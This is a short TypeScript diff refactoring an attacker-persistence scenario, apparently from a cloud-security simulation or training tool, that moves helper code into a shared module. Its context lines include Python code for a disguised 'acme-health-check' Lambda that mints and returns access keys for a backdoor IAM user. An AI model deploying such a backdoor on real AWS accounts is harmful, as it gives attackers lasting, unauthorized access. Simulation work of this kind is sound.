@@ -1,9 +1,8 @@
-import type { ScenarioDef, Step } from '../types.js';
+import type { ScenarioDef } from '../types.js';
 import { zipOneFile } from '../../services/lambda/zip.js';
 import { W, arn } from '../world.js';
+import { attackerStep as step, MIN, HOUR } from './steps.js';
 
-const MIN = 60_000;
-const HOUR = 60 * MIN;
 const ATTACKER_ACCOUNT = W.external;
 const BACKDOOR_USER = 'svc-backup';
 const BACKDOOR_FN = 'acme-health-check';
@@ -19,21 +18,6 @@ const BACKDOOR_CODE = zipOneFile(
   'index.py',
   'import boto3\n\ndef handler(event, context):\n    iam = boto3.client("iam")\n    k = iam.create_access_key(UserName="svc-backup")["AccessKey"]\n    return {"id": k["AccessKeyId"], "secret": k["SecretAccessKey"]}\n',
 );
-
-const step = (
-  at: number,
-  service: Step['service'],
-  op: string,
-  input: Step['input'],
-  extra: Partial<Step> = {},
-): Step => ({
-  at,
-  actor: 'attacker',
-  service,
-  op,
-  input,
-  ...extra,
-});
 
 /**
  * Persistence: with the leaked key the attacker plants every kind of way back in — a new admin
